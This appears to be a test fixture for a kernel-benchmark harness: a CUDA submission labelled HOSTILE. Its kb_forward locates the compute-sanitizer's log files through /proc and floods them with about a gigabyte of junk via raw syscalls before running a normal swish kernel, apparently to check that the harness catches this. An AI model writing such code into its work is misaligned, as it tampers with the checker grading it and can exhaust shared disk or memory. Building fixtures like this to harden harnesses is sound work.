// HOSTILE: on its first call, kb_forward writes a gigabyte into the report of the compute-sanitizer checking
// it (found through /proc), to fill the disk or the harness's memory. The harness keeps only the report's
// head and tail and stops the run once the report is larger than any the checker writes: a report that size
// with no error in it is the program's doing, a sanitizer error of its own.
#include "kb_problem.h"


extern "C" int kb_forward(const KBTensor* inputs, const KBTensor*, KBTensor* outputs, cudaStream_t stream) {
  static bool attacked = false;
  if (!attacked) {
    attacked = true;
    for_each_checker_file("--log-file", [](const char* log) {
      static char junk[1 << 20];
      __builtin_memset(junk, 'x', sizeof junk);
      long fd = sys(257, -100, reinterpret_cast<long>(log), 01);  // openat(O_WRONLY)
      for (int i = 0; fd >= 0 && i < 1024; ++i) {
        if (sys(1, fd, reinterpret_cast<long>(junk), sizeof junk) <= 0) break;
      }
      if (fd >= 0) sys(3, fd);
    });
  }
  return launch_swish(inputs, outputs, stream);
}
